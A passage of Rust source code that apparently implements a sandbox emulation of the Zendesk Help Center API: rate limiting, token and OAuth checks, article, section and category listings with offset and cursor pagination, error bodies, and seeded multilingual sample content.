    pub fn hc_throttle_next(&self, subdomain: &str, count: u32, retry_after_secs: u64) {
        let sub = normalise_sub(subdomain);
        let mut store = self.zendesk_hc_store();
        let knobs = store.knobs_mut(&sub);
        knobs.throttle_left = count;
        knobs.throttle_retry_after = retry_after_secs.max(1);
    }

    /// The help centre's clock, epoch seconds (what the next change is stamped with).
    pub fn hc_now(&self, subdomain: &str) -> i64 {
        self.zendesk_hc_store().now(&normalise_sub(subdomain))
    }

    /// Freezes the help centre's clock at `epoch_secs` (`None`: back to the sandbox's wall
    /// clock, without offset), so tests choose the second a change lands in and when that
    /// second is over.
    pub fn hc_set_clock(&self, subdomain: &str, epoch_secs: Option<i64>) {
        let sub = normalise_sub(subdomain);
        let mut store = self.zendesk_hc_store();
        let knobs = store.knobs_mut(&sub);
        knobs.frozen_at = epoch_secs;
        knobs.clock_offset = 0;
    }

    /// Moves the help centre's clock by `secs` (frozen or not).
    pub fn hc_advance_clock(&self, subdomain: &str, secs: i64) {
        let sub = normalise_sub(subdomain);
        let mut store = self.zendesk_hc_store();
        let knobs = store.knobs_mut(&sub);
        match &mut knobs.frozen_at {
            Some(at) => *at += secs,
            None => knobs.clock_offset += secs,
        }
    }

    fn with_centre<R>(&self, subdomain: &str, f: impl FnOnce(&mut Centre, i64) -> R) -> Option<R> {
        let sub = normalise_sub(subdomain);
        let mut store = self.zendesk_hc_store();
        let now = store.now(&sub);
        store.centres.get_mut(&sub).map(|centre| f(centre, now))
    }

    /// The id of the subdomain's Zendesk account: the author of its articles.
    fn hc_author(&self, sub: &str) -> u64 {
        self.find_account(|account| {
            matches!(&account.provider, ProviderAccount::Zendesk { subdomain, .. } if subdomain == sub)
        })
        .map_or(DEFAULT_AUTHOR_ID, |account| account.id)
    }
}

// ---------------------------------------------------------------------------------------
// Serving
// ---------------------------------------------------------------------------------------

/// Serves a Help Center route at a known help desk: budget, then credentials, then the
/// route; the rate-limit headers go on every answer but the forced ones.
pub(crate) fn handle(
    route: HcRoute,
    state: &SandboxState,
    sub: &str,
    req: &ProviderRequest,
) -> Response {
    let usage = match admit(state, sub) {
        Ok(usage) => usage,
        Err(refused) => return refused,
    };
    let response = match authorize(state, sub, req) {
        Err(refused) => refused,
        Ok(()) => match answer(route, state, sub, req) {
            Ok(body) => wire::json(StatusCode::OK, body),
            Err(refused) => refused,
        },
    };
    rate_headers(response, &usage)
}

/// Counts the request against the subdomain's budget, or refuses it (a storm, or the
/// budget spent).
fn admit(state: &SandboxState, sub: &str) -> Result<Usage, Response> {
    let knobs = {
        let mut store = state.zendesk_hc_store();
        let knobs = store.knobs_mut(sub);
        let before = *knobs;
        knobs.throttle_left = knobs.throttle_left.saturating_sub(1);
        before
    };
    if knobs.throttle_left > 0 {
        return Err(throttled(knobs.per_minute, knobs.throttle_retry_after));
    }
    let policy = [Policy::rolling(
        LIMIT_POLICY,
        knobs.per_minute,
        Duration::from_secs(60),
    )];
    let key = format!("zendesk.hc:{sub}");
    match state.with_limiter(|limiter| limiter.acquire(&key, &policy, Instant::now())) {
        Verdict::Allowed { usage } => Ok(usage.first().copied().unwrap_or(Usage {
            policy: LIMIT_POLICY,
            limit: knobs.per_minute,
            remaining: 0,
            reset_after: Duration::ZERO,
        })),
        Verdict::Denied { retry_after, .. } => {
            let secs = retry_after.as_secs() + u64::from(retry_after.subsec_nanos() > 0);
            Err(throttled(knobs.per_minute, secs))
        }
    }
}

/// Zendesk's 429: a `text/plain` sentence, `Retry-After` and the limit headers.
fn throttled(limit: u64, retry_after: u64) -> Response {
    let mut response = (StatusCode::TOO_MANY_REQUESTS, RATE_LIMIT_BODY).into_response();
    let headers = response.headers_mut();
    headers.insert(RETRY_AFTER, HeaderValue::from(retry_after.max(1)));
    headers.insert("x-rate-limit", HeaderValue::from(limit));
    headers.insert("x-rate-limit-remaining", HeaderValue::from(0u64));
    response
}

fn rate_headers(mut response: Response, usage: &Usage) -> Response {
    let headers = response.headers_mut();
    headers.insert("x-rate-limit", HeaderValue::from(usage.limit));
    headers.insert("x-rate-limit-remaining", HeaderValue::from(usage.remaining));
    response
}

/// An agent's API token, or an OAuth token of the subdomain with `read` or `hc:read`.
fn authorize(state: &SandboxState, sub: &str, req: &ProviderRequest) -> Result<(), Response> {
    if wire::bearer_token(&req.headers).is_some() {
        let grant = support::oauth_grant(state, sub, req)?;
        let wanted = READ_SCOPES.map(str::to_owned);
        if !crate::oauth::scopes_satisfy(&grant.scopes, &wanted) {
            return Err(support::missing_scopes("read"));
        }
        return Ok(());
    }
    support::authenticate(state, sub, req)
        .map(|_| ())
        .ok_or_else(support::unauthorized)
}

/// The route's JSON body, built under the store's lock.
fn answer(
    route: HcRoute,
    state: &SandboxState,
    sub: &str,
    req: &ProviderRequest,
) -> Result<Value, Response> {
    let Some(path) = parse_path(&req.path) else {
        return Err(support::not_found(state, req));
    };
    let query: Vec<(String, String)> = req
        .query
        .as_deref()
        .map(|q| {
            url::form_urlencoded::parse(q.as_bytes())
                .map(|(k, v)| (k.into_owned(), v.into_owned()))
                .collect()
        })
        .unwrap_or_default();
    let store = state.zendesk_hc_store();
    let now = store.now(sub);
    let empty;
    let centre = match store.centres.get(sub) {
        Some(centre) => centre,
        None => {
            empty = Centre::empty(DEFAULT_AUTHOR_ID);
            &empty
        }
    };
    let ctx = Ctx {
        host: &req.host,
        path: &req.path,
        query: &query,
        centre,
        now,
    };
    let locale = path.locale.map(|l| ctx.locale(l)).transpose()?;
    match route {
        HcRoute::IncrementalArticles => incremental(&ctx),
        HcRoute::Articles => list_articles(&ctx, locale.as_deref()),
        HcRoute::Article => show_article(&ctx, locale.as_deref(), path.id),
        HcRoute::Sections => list_sections(&ctx, locale.as_deref()),
        HcRoute::Categories => list_categories(&ctx, locale.as_deref()),
        HcRoute::Locales => Ok(json!({
            "locales": centre.locales,
            "default_locale": centre.default_locale,
        })),
    }
}

/// One request's view of a help centre.
struct Ctx<'a> {
    host: &'a str,
    path: &'a str,
    query: &'a [(String, String)],
    centre: &'a Centre,
    now: i64,
}

impl Ctx<'_> {
    fn param(&self, name: &str) -> Option<&str> {
        self.query
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
    }

    /// An enabled locale (lower-cased), else 404.
    fn locale(&self, raw: &str) -> Result<String, Response> {
        let locale = raw.to_ascii_lowercase();
        if self.centre.locales.contains(&locale) {
            Ok(locale)
        } else {
            Err(record_not_found())
        }
    }

    fn include_translations(&self) -> bool {
        self.param("include")
            .is_some_and(|v| v.split(',').any(|s| s.trim() == "translations"))
    }

    /// This route's URL at Zendesk (with `.json`), its query with `drop` removed and `set`
    /// added, brackets left readable as in Zendesk's links.
    fn url_with(&self, set: &[(&str, String)], drop: &[&str]) -> String {
        let base = self.path.strip_suffix(".json").unwrap_or(self.path);
        let pairs: Vec<String> = self
            .query
            .iter()
            .filter(|(k, _)| {
                !drop.contains(&k.as_str()) && !set.iter().any(|(s, _)| *s == k.as_str())
            })
            .map(|(k, v)| format!("{}={}", encode(k), encode(v)))
            .chain(
                set.iter()
                    .map(|(k, v)| format!("{}={}", encode(k), encode(v))),
            )
            .collect();
        if pairs.is_empty() {
            format!("https://{}{base}.json", self.host)
        } else {
            format!("https://{}{base}.json?{}", self.host, pairs.join("&"))
        }
    }

    fn article_json(&self, article: &HcArticle, shown: &HcTranslation, with: bool) -> Value {
        let mut value = json!({
            "id": article.id,
            "url": format!("https://{}/api/v2/help_center/{}/articles/{}.json", self.host, shown.locale, article.id),
            "html_url": format!("https://{}/hc/{}/articles/{}-{}", self.host, shown.locale, article.id, slug(&shown.title)),
            "author_id": article.author_id,
            "comments_disabled": article.comments_disabled,
            "draft": shown.draft,
            "promoted": article.promoted,
            "position": article.position,
            "vote_sum": article.vote_sum,
            "vote_count": article.vote_count,
            "section_id": article.section_id,
            "created_at": iso(article.created_at),
            "updated_at": iso(article.updated_at),
            "name": shown.title,
            "title": shown.title,
            "source_locale": article.source_locale,
            "locale": shown.locale,
            "outdated": false,
            "outdated_locales": [],
            "edited_at": iso(shown.edited_at),
            "user_segment_id": article.user_segment_id,
            "user_segment_ids": article.user_segment_id.into_iter().collect::<Vec<_>>(),
            "permission_group_id": article.permission_group_id,
            "content_tag_ids": [],
            "label_names": article.label_names,
            "body": shown.body,
        });
        if with && let Some(object) = value.as_object_mut() {
            let translations: Vec<Value> = article
                .translations
                .iter()
                .map(|t| self.translation_json(article, t))
                .collect();
            object.insert("translations".to_owned(), Value::Array(translations));
        }
        value
    }

    fn translation_json(&self, article: &HcArticle, t: &HcTranslation) -> Value {
        json!({
            "id": t.id,
            "url": format!("https://{}/api/v2/help_center/articles/{}/translations/{}.json", self.host, article.id, t.locale),
            "html_url": format!("https://{}/hc/{}/articles/{}-{}", self.host, t.locale, article.id, slug(&t.title)),
            "source_id": article.id,
            "source_type": "Article",
            "locale": t.locale,
            "title": t.title,
            "body": t.body,
            "outdated": false,
            "draft": t.draft,
            "hidden": false,
            "created_at": iso(t.created_at),
            "updated_at": iso(t.updated_at),
            "updated_by_id": article.author_id,
            "created_by_id": article.author_id,
        })
    }

    fn section_json(&self, s: &Section, locale: &str) -> Value {
        let (name, description) = self.centre.text(&s.texts, locale);
        json!({
            "id": s.id,
            "url": format!("https://{}/api/v2/help_center/{locale}/sections/{}.json", self.host, s.id),
            "html_url": format!("https://{}/hc/{locale}/sections/{}-{}", self.host, s.id, slug(name)),
            "category_id": s.category_id,
            "position": s.position,
            "sorting": "manual",
            "created_at": iso(s.created_at),
            "updated_at": iso(s.updated_at),
            "name": name,
            "description": description,
            "locale": locale,
            "source_locale": self.centre.default_locale,
            "outdated": false,
            "parent_section_id": null,
            "theme_template": "section_page",
        })
    }

    fn category_json(&self, c: &Category, locale: &str) -> Value {
        let (name, description) = self.centre.text(&c.texts, locale);
        json!({
            "id": c.id,
            "url": format!("https://{}/api/v2/help_center/{locale}/categories/{}.json", self.host, c.id),
            "html_url": format!("https://{}/hc/{locale}/categories/{}-{}", self.host, c.id, slug(name)),
            "position": c.position,
            "created_at": iso(c.created_at),
            "updated_at": iso(c.updated_at),
            "name": name,
            "description": description,
            "locale": locale,
            "source_locale": self.centre.default_locale,
            "outdated": false,
        })
    }
}

/// `GET /api/v2/help_center/incremental/articles?start_time=`.
fn incremental(ctx: &Ctx<'_>) -> Result<Value, Response> {
    const ACTION: &str = "incremental/articles/index";
    let start = match ctx.param("start_time").map(str::trim) {
        None | Some("") => return Err(invalid_attribute("start_time", "is required", ACTION)),
        Some(raw) => raw
            .parse::<i64>()
            .map_err(|_| invalid_attribute("start_time", "must be an integer", ACTION))?,
    };
    let mut due: Vec<&HcArticle> = ctx
        .centre
        .articles
        .values()
        .filter(|a| !a.archived && a.updated_at > start && a.updated_at < ctx.now)
        .collect();
    due.sort_by_key(|a| (a.updated_at, a.id));
    let count = due.len();
    let Some(last) = due.get(count.min(INCREMENTAL_PAGE_SIZE).saturating_sub(1)) else {
        return Ok(json!({"articles": [], "next_page": null, "end_time": null, "count": 0}));
    };
    let end_time = last.updated_at;
    let mut take = count.min(INCREMENTAL_PAGE_SIZE);
    while due.get(take).is_some_and(|a| a.updated_at == end_time) {
        take += 1;
    }
    let with = ctx.include_translations();
    let articles: Vec<Value> = due
        .iter()
        .take(take)
        .filter_map(|a| a.source().map(|t| ctx.article_json(a, t, with)))
        .collect();
    let next_page = (take < count)
        .then(|| ctx.url_with(&[("start_time", end_time.to_string())], &["start_time"]));
    Ok(json!({
        "articles": articles,
        "next_page": next_page,
        "end_time": end_time,
        "count": count,
    }))
}

/// `GET /api/v2/help_center[/{locale}]/articles`.
fn list_articles(ctx: &Ctx<'_>, locale: Option<&str>) -> Result<Value, Response> {
    const ACTION: &str = "articles/index";
    let sort = sort(
        ctx,
        &["position", "title", "created_at", "updated_at", "edited_at"],
        ACTION,
    )?;
    if locale.is_none() && matches!(sort.by, "title" | "edited_at") {
        return Err(invalid_attribute(
            "sort_by",
            "title and edited_at need a locale in the path",
            ACTION,
        ));
    }
    let paging = paging(ctx, ACTION)?;
    let labels = label_filter(ctx, ACTION)?;
    let entries: Vec<Entry<(&HcArticle, &HcTranslation)>> = ctx
        .centre
        .articles
        .values()
        .filter(|a| !a.archived)
        .filter(|a| labels.iter().all(|l| a.label_names.contains(l)))
        .filter_map(|a| {
            let shown = match locale {
                Some(l) => a.translation(l)?,
                None => a.source()?,
            };
            let key = match sort.by {
                "title" => SortKey::Text(shown.title.to_lowercase()),
                "created_at" => SortKey::Int(a.created_at),
                "updated_at" => SortKey::Int(a.updated_at),
                "edited_at" => SortKey::Int(shown.edited_at),
                _ => SortKey::Int(a.position),
            };
            Some(Entry {
                key,
                id: a.id,
                item: (a, shown),
            })
        })
        .collect();
    let with = ctx.include_translations();
    let (items, mut envelope) = paginate(ctx, entries, &sort, paging);
    let articles = items
        .into_iter()
        .map(|(a, t)| ctx.article_json(a, t, with))
        .collect();
    envelope.insert("articles".to_owned(), Value::Array(articles));
    Ok(Value::Object(envelope))
}

/// `GET /api/v2/help_center[/{locale}]/articles/{id}`.
fn show_article(ctx: &Ctx<'_>, locale: Option<&str>, id: Option<u64>) -> Result<Value, Response> {
    let article = id
        .and_then(|id| ctx.centre.articles.get(&id))
        .filter(|a| !a.archived)
        .ok_or_else(record_not_found)?;
    let shown = match locale {
        Some(l) => article.translation(l),
        None => article.source(),
    }
    .ok_or_else(record_not_found)?;
    Ok(json!({"article": ctx.article_json(article, shown, ctx.include_translations())}))
}

/// `GET /api/v2/help_center[/{locale}]/sections`.
fn list_sections(ctx: &Ctx<'_>, locale: Option<&str>) -> Result<Value, Response> {
    const ACTION: &str = "sections/index";
    let sort = sort(ctx, &["position", "created_at", "updated_at"], ACTION)?;
    let paging = paging(ctx, ACTION)?;
    let locale = locale.unwrap_or(ctx.centre.default_locale.as_str());
    let entries = ctx
        .centre
        .sections
        .iter()
        .map(|s| Entry {
            key: SortKey::Int(match sort.by {
                "created_at" => s.created_at,
                "updated_at" => s.updated_at,
                _ => s.position,
            }),
            id: s.id,
            item: s,
        })
        .collect();
    let (items, mut envelope) = paginate(ctx, entries, &sort, paging);
    let sections = items
        .into_iter()
        .map(|s| ctx.section_json(s, locale))
        .collect();
    envelope.insert("sections".to_owned(), Value::Array(sections));
    Ok(Value::Object(envelope))
}

/// `GET /api/v2/help_center[/{locale}]/categories`.
fn list_categories(ctx: &Ctx<'_>, locale: Option<&str>) -> Result<Value, Response> {
    const ACTION: &str = "categories/index";
    let sort = sort(ctx, &["position", "created_at", "updated_at"], ACTION)?;
    let paging = paging(ctx, ACTION)?;
    let locale = locale.unwrap_or(ctx.centre.default_locale.as_str());
    let entries = ctx
        .centre
        .categories
        .iter()
        .map(|c| Entry {
            key: SortKey::Int(match sort.by {
                "created_at" => c.created_at,
                "updated_at" => c.updated_at,
                _ => c.position,
            }),
            id: c.id,
            item: c,
        })
        .collect();
    let (items, mut envelope) = paginate(ctx, entries, &sort, paging);
    let categories = items
        .into_iter()
        .map(|c| ctx.category_json(c, locale))
        .collect();
    envelope.insert("categories".to_owned(), Value::Array(categories));
    Ok(Value::Object(envelope))
}

// ---------------------------------------------------------------------------------------
// Sorting and paging
// ---------------------------------------------------------------------------------------

/// A list item's sort value.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum SortKey {
    Int(i64),
    Text(String),
}

/// A list item with its sort value and id (ties break by id, ascending).
struct Entry<T> {
    key: SortKey,
    id: u64,
    item: T,
}

struct Sort {
    by: &'static str,
    desc: bool,
}

impl Sort {
    fn order(&self, a: (&SortKey, u64), b: (&SortKey, u64)) -> Ordering {
        let by_key = a.0.cmp(b.0);
        let by_key = if self.desc { by_key.reverse() } else { by_key };
        by_key.then(a.1.cmp(&b.1))
    }
}

/// `sort_by` (one of `allowed`; empty or absent: `position`) and `sort_order`.
fn sort(ctx: &Ctx<'_>, allowed: &[&'static str], action: &str) -> Result<Sort, Response> {
    let by = match ctx.param("sort_by") {
        None | Some("") => "position",
        Some(raw) => allowed.iter().copied().find(|a| *a == raw).ok_or_else(|| {
            invalid_attribute(
                "sort_by",
                &format!("must be one of {}", allowed.join(", ")),
                action,
            )
        })?,
    };
    let desc = match ctx.param("sort_order") {
        None | Some("" | "asc") => false,
        Some("desc") => true,
        Some(_) => {
            return Err(invalid_attribute(
                "sort_order",
                "must be one of asc, desc",
                action,
            ));
        }
    };
    Ok(Sort { by, desc })
}

/// `label_names`: at most 10, comma-separated.
fn label_filter(ctx: &Ctx<'_>, action: &str) -> Result<Vec<String>, Response> {
    let Some(raw) = ctx.param("label_names") else {
        return Ok(Vec::new());
    };
    let labels: Vec<String> = raw
        .split(',')
        .map(str::trim)
        .filter(|l| !l.is_empty())
        .map(str::to_owned)
        .collect();
    if labels.len() > MAX_LABEL_NAMES {
        return Err(invalid_attribute(
            "label_names",
            "must name at most 10 labels",
            action,
        ));
    }
    Ok(labels)
}

type Cursor = (SortKey, u64);

enum Paging {
    Offset {
        page: u64,
        per_page: u64,
    },
    Cursor {
        size: usize,
        after: Option<Cursor>,
        before: Option<Cursor>,
    },
}

/// Cursor pagination when any `page[…]` parameter is given, else offset pagination.
fn paging(ctx: &Ctx<'_>, action: &str) -> Result<Paging, Response> {
    let size = ctx.param("page[size]");
    let after = ctx.param("page[after]");
    let before = ctx.param("page[before]");
    if size.is_some() || after.is_some() || before.is_some() {
        if ctx.param("page").is_some() {
            return Err(invalid_attribute("page", "must be an integer", action));
        }
        let size = match size {
            None => DEFAULT_PER_PAGE,
            Some(raw) => match raw.trim().parse::<u64>() {
                Ok(n) if n > MAX_PER_PAGE => {
                    return Err(invalid_pagination(
                        "page[size] must be less than or equal to 100",
                    ));
                }
                Ok(n) if n >= 1 => n,
                _ => return Err(invalid_pagination("page[size] must be a positive integer")),
            },
        };
        if after.is_some() && before.is_some() {
            return Err(invalid_pagination(
                "page[after] and page[before] cannot be used together",
            ));
        }
        let decode = |raw: Option<&str>, name: &str| match raw {
            None => Ok(None),
            Some(raw) => decode_cursor(raw)
                .map(Some)
                .ok_or_else(|| invalid_pagination(&format!("{name} is not a valid cursor"))),
        };
        return Ok(Paging::Cursor {
            size: usize::try_from(size).unwrap_or(1),
            after: decode(after, "page[after]")?,
            before: decode(before, "page[before]")?,
        });
    }
    let positive = |name: &str, default: u64| match ctx.param(name).map(str::trim) {
        None | Some("") => Ok(default),
        Some(raw) => match raw.parse::<u64>() {
            Ok(n) if n >= 1 => Ok(n),
            _ => Err(invalid_attribute(name, "must be an integer", action)),
        },
    };
    let page = positive("page", 1)?;
    let per_page = positive("per_page", DEFAULT_PER_PAGE)?.min(MAX_PER_PAGE);
    if page.saturating_mul(per_page) > OFFSET_RECORD_LIMIT {
        return Err(pagination_depth());
    }
    Ok(Paging::Offset { page, per_page })
}

/// Sorts `entries` and cuts the page out: its items and the envelope's other members.
fn paginate<T>(
    ctx: &Ctx<'_>,
    mut entries: Vec<Entry<T>>,
    sort: &Sort,
    paging: Paging,
) -> (Vec<T>, Map<String, Value>) {
    entries.sort_by(|a, b| sort.order((&a.key, a.id), (&b.key, b.id)));
    let len = entries.len();
    let mut envelope = Map::new();
    match paging {
        Paging::Offset { page, per_page } => {
            let count = len as u64;
            let page_count = count.div_ceil(per_page);
            let start = usize::try_from((page - 1).saturating_mul(per_page)).unwrap_or(len);
            let take = usize::try_from(per_page).unwrap_or(len);
            let next = (page < page_count)
                .then(|| ctx.url_with(&[("page", (page + 1).to_string())], &["page"]));
            let previous =
                (page > 1).then(|| ctx.url_with(&[("page", (page - 1).to_string())], &["page"]));
            envelope.insert("page".to_owned(), json!(page));
            envelope.insert("previous_page".to_owned(), json!(previous));
            envelope.insert("next_page".to_owned(), json!(next));
            envelope.insert("per_page".to_owned(), json!(per_page));
            envelope.insert("page_count".to_owned(), json!(page_count));
            envelope.insert("count".to_owned(), json!(count));
            envelope.insert("sort_by".to_owned(), json!(sort.by));
            envelope.insert(
                "sort_order".to_owned(),
                json!(if sort.desc { "desc" } else { "asc" }),
            );
            let items = entries
                .into_iter()
                .skip(start)
                .take(take)
                .map(|e| e.item)
                .collect();
            (items, envelope)
        }
        Paging::Cursor {
            size,
            after,
            before,
        } => {
            let (lo, hi) = match (&after, &before) {
                (Some(c), _) => {
                    let lo = entries.partition_point(|e| {
                        sort.order((&e.key, e.id), (&c.0, c.1)) != Ordering::Greater
                    });
                    (lo, lo.saturating_add(size).min(len))
                }
                (None, Some(c)) => {
                    let hi = entries.partition_point(|e| {
                        sort.order((&e.key, e.id), (&c.0, c.1)) == Ordering::Less
                    });
                    (hi.saturating_sub(size), hi)
                }
                (None, None) => (0, size.min(len)),
            };
            let page = entries.get(lo..hi).unwrap_or(&[]);
            let after_cursor = page.last().map(|e| encode_cursor(&e.key, e.id));
            let before_cursor = page.first().map(|e| encode_cursor(&e.key, e.id));
            let drop = ["page[after]", "page[before]"];
            let next = after_cursor
                .as_ref()
                .filter(|_| hi < len)
                .map(|c| ctx.url_with(&[("page[after]", c.clone())], &drop));
            let prev = before_cursor
                .as_ref()
                .filter(|_| lo > 0)
                .map(|c| ctx.url_with(&[("page[before]", c.clone())], &drop));
            let has_more = if before.is_some() { lo > 0 } else { hi < len };
            envelope.insert(
                "meta".to_owned(),
                json!({"has_more": has_more, "after_cursor": after_cursor, "before_cursor": before_cursor}),
            );
            envelope.insert("links".to_owned(), json!({"next": next, "prev": prev}));
            let items = entries
                .into_iter()
                .skip(lo)
                .take(hi - lo)
                .map(|e| e.item)
                .collect();
            (items, envelope)
        }
    }
}

/// An opaque cursor: base64url of `[key, id]`.
fn encode_cursor(key: &SortKey, id: u64) -> String {
    let key = match key {
        SortKey::Int(n) => json!(n),
        SortKey::Text(t) => json!(t),
    };
    URL_SAFE_NO_PAD.encode(json!([key, id]).to_string())
}

fn decode_cursor(raw: &str) -> Option<Cursor> {
    let bytes = URL_SAFE_NO_PAD
        .decode(raw.trim().trim_end_matches('='))
        .ok()?;
    let value: Value = serde_json::from_slice(&bytes).ok()?;
    let [key, id] = value.as_array()?.as_slice() else {
        return None;
    };
    let key = match key {
        Value::Number(n) => SortKey::Int(n.as_i64()?),
        Value::String(s) => SortKey::Text(s.clone()),
        _ => return None,
    };
    Some((key, id.as_u64()?))
}

/// A query component, percent-encoded but with `[` and `]` kept.
fn encode(raw: &str) -> String {
    url::form_urlencoded::byte_serialize(raw.as_bytes())
        .collect::<String>()
        .replace("%5B", "[")
        .replace("%5D", "]")
}

// ---------------------------------------------------------------------------------------
// Error bodies
// ---------------------------------------------------------------------------------------

/// 404 `RecordNotFound`.
fn record_not_found() -> Response {
    wire::json(
        StatusCode::NOT_FOUND,
        json!({"error": "RecordNotFound", "description": "Not found"}),
    )
}

/// 400 in Zendesk's shape for a bad parameter (the `from api/v2/…` suffix names the
/// action, modelled on Support's).
fn invalid_attribute(attribute: &str, reason: &str, action: &str) -> Response {
    wire::json(
        StatusCode::BAD_REQUEST,
        json!({"error": {
            "title": "Invalid attribute",
            "message": format!("You passed an invalid value for the {attribute} attribute. Invalid parameter: {attribute} {reason} from api/v2/help_center/{action}"),
        }}),
    )
}

/// 400 for bad cursor-pagination parameters.
fn invalid_pagination(detail: &str) -> Response {
    wire::json(
        StatusCode::BAD_REQUEST,
        json!({"errors": [{
            "code": "InvalidPaginationParameter",
            "title": "Invalid Pagination Parameter",
            "detail": detail,
        }]}),
    )
}

/// 400 for offset pagination past the first 10,000 records.
fn pagination_depth() -> Response {
    wire::json(
        StatusCode::BAD_REQUEST,
        json!({"errors": [{
            "code": "InvalidPaginationDepth",
            "title": "Pagination requests using Offset Pagination are limited to page 100 or up to 10000 records (page * per_page)",
            "detail": "Use cursor pagination (page[size] with page[after]) to read past the first 10,000 records.",
        }]}),
    )
}

// ---------------------------------------------------------------------------------------
// Formatting
// ---------------------------------------------------------------------------------------

/// Epoch seconds as Zendesk prints times: `2024-01-15T09:00:00Z`.
fn iso(secs: i64) -> String {
    let days = secs.div_euclid(86_400);
    let rem = secs.rem_euclid(86_400);
    let (y, m, d) = clock::civil_from_days(days);
    format!(
        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}Z",
        rem / 3600,
        rem % 3600 / 60,
        rem % 60
    )
}

/// The title part of an `html_url`: ASCII words joined by `-`, case kept.
fn slug(title: &str) -> String {
    let mut slug = title
        .split(|c: char| !c.is_ascii_alphanumeric())
        .filter(|w| !w.is_empty())
        .collect::<Vec<_>>()
        .join("-");
    slug.truncate(80);
    slug
}

fn escape_html(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            c => out.push(c),
        }
    }
    out
}

// ---------------------------------------------------------------------------------------
// Seeding
// ---------------------------------------------------------------------------------------

/// SplitMix64: a deterministic spread of `x`.
fn mix(x: u64) -> u64 {
    let mut z = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// `mix(x) % n` as an index (`n` > 0).
fn pick(x: u64, n: usize) -> usize {
    (mix(x) % n.max(1) as u64) as usize
}

/// 0 English, 1 German, 2 French.
fn lang(locale: &str) -> usize {
    match locale.split('-').next() {
        Some("de") => 1,
        Some("fr") => 2,
        _ => 0,
    }
}

/// A text of `entry` in `locale` (English marked with the locale when there is none).
fn localized(entry: &[&str; 3], locale: &str) -> String {
    match lang(locale) {
        0 if !locale.starts_with("en") => format!("{} ({locale})", entry[0]),
        n => entry[n].to_owned(),
    }
}

const CATEGORY_NAMES: [[&str; 3]; 6] = [
    ["Getting started", "Erste Schritte", "Premiers pas"],
    [
        "Billing and payments",
        "Abrechnung und Zahlungen",
        "Facturation et paiements",
    ],
    [
        "Account and security",
        "Konto und Sicherheit",
        "Compte et sécurité",
    ],
    ["Integrations", "Integrationen", "Intégrations"],
    ["Troubleshooting", "Fehlerbehebung", "Dépannage"],
    ["Administration", "Verwaltung", "Administration"],
];

const CATEGORY_DESCRIPTIONS: [&str; 3] = [
    "Articles about {}.",
    "Artikel zum Thema {}.",
    "Articles sur le thème {}.",
];

const TOPICS: [[&str; 3]; 8] = [
    ["Invoices", "Rechnungen", "Factures"],
    ["Passwords", "Passwörter", "Mots de passe"],
    [
        "Single sign-on",
        "Single Sign-On",
        "Authentification unique",
    ],
    ["Mobile app", "Mobile App", "Application mobile"],
    ["Reports", "Berichte", "Rapports"],
    ["Notifications", "Benachrichtigungen", "Notifications"],
    ["API access", "API-Zugriff", "Accès à l'API"],
    ["Team members", "Teammitglieder", "Membres de l'équipe"],
];

const SECTION_PATTERNS: [[&str; 3]; 3] = [
    ["{} basics", "{}: Grundlagen", "{} : les bases"],
    ["Managing {}", "{} verwalten", "Gérer : {}"],
    ["{} FAQ", "{}: Häufige Fragen", "{} : questions fréquentes"],
];

const TASKS: [[&str; 3]; 7] = [
    ["Setting up", "Einrichten von", "Configurer"],
    ["Troubleshooting", "Fehlerbehebung bei", "Dépanner"],
    ["Understanding", "Grundlagen zu", "Comprendre"],
    ["Exporting", "Exportieren von", "Exporter"],
    ["Sharing", "Freigeben von", "Partager"],
    ["Securing", "Absichern von", "Sécuriser"],
    ["Automating", "Automatisieren von", "Automatiser"],
];

const OBJECTS: [[&str; 3]; 11] = [
    ["invoices", "Rechnungen", "les factures"],
    ["user roles", "Benutzerrollen", "les rôles utilisateur"],
    ["webhooks", "Webhooks", "les webhooks"],
    ["dashboards", "Dashboards", "les tableaux de bord"],
    [
        "email notifications",
        "E-Mail-Benachrichtigungen",
        "les notifications par e-mail",
    ],
    ["API tokens", "API-Tokens", "les jetons d'API"],
    [
        "custom fields",
        "benutzerdefinierten Feldern",
        "les champs personnalisés",
    ],
    ["audit logs", "Audit-Logs", "les journaux d'audit"],
    ["the mobile app", "der mobilen App", "l'application mobile"],
    ["SSO with SAML", "SSO mit SAML", "le SSO avec SAML"],
    [
        "data imports",
        "Datenimporten",
        "les importations de données",
    ],
];

const QUALIFIERS: [[&str; 3]; 5] = [
    ["", "", ""],
    [
        " for administrators",
        " für Administratoren",
        " pour les administrateurs",
    ],
    [
        " on the Enterprise plan",
        " im Enterprise-Tarif",
        " avec l'offre Enterprise",
    ],
    [" step by step", " Schritt für Schritt", " étape par étape"],
    [
        " in the new editor",
        " im neuen Editor",
        " dans le nouvel éditeur",
    ],
];

const HEADINGS: [[&str; 3]; 4] = [
    ["Overview", "Überblick", "Présentation"],
    [
        "Before you begin",
        "Bevor Sie beginnen",
        "Avant de commencer",
    ],
    ["Steps", "Schritte", "Étapes"],
    ["Related articles", "Verwandte Artikel", "Articles associés"],
];

const SENTENCES_EN: [&str; 16] = [
    "This article explains what changes when you turn the feature on and who can use it.",
    "Only administrators can change these settings; agents see them as read-only.",
    "Changes take effect immediately for every member of your team.",
    "If you use single sign-on, sign in through your identity provider first.",
    "The export runs in the background and you receive an email when the file is ready.",
    "Large accounts may need a few minutes before the numbers are up to date.",
    "You can undo the change at any time from the same page.",
    "We recommend testing the setup in a sandbox account before you roll it out.",
    "Data is stored in the region you chose when the account was created.",
    "Contact support if the option is greyed out on your plan.",
    "Each team can have its own settings, which override the account defaults.",
    "Reports include activity from the last 90 days unless you pick another range.",
    "Mobile devices pick up the new configuration the next time the app starts.",
    "Notifications are grouped so that nobody receives more than one email per hour.",
    "Audit logs record who made each change and when.",
    "The API returns the same fields that you see in the admin interface.",
];

const SENTENCES_DE: [&str; 8] = [
    "Dieser Artikel erklärt, was sich ändert, wenn Sie die Funktion aktivieren.",
